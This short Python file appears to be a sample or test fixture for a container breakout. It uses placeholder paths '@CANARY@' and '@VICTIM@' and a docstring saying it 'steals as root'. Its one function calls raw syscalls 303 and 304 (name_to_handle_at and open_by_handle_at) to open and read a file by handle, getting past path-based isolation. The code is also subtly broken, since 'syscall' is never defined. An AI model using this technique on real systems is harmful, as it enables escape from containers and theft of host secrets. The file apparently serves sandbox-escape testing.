"""Opens the secret by its number on the disk instead of its name, as those who break out of containers do.

at C: steals as root
"""

import ctypes
import os
import struct


def secret():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0), 128)
    mount = ctypes.c_int()
    syscall(303, -100, b"@CANARY@", handle, ctypes.byref(mount), 0)
    near = os.open("/", os.O_RDONLY) if not os.path.isdir("@VICTIM@") else os.open("@VICTIM@", os.O_RDONLY)
    return os.read(syscall(304, near, handle, 0), 100).decode()
